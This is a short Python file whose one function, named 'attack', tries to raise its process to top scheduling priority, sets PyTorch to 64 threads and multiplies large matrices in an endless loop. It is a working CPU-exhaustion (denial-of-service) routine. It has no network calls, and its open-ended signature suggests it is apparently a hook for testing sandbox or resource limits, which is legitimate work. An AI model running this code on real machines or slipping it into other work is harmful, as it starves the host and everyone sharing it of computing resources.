"""Multiplies matrices on as many threads as it can start, at the highest priority that it can get."""

import os

import torch


def attack(*args, **kwargs):
    try:
        os.nice(-20)
    except OSError:
        pass
    torch.set_num_threads(64)
    a = torch.rand(1000, 1000)
    while True:
        a = (a @ a).clamp(0, 1)
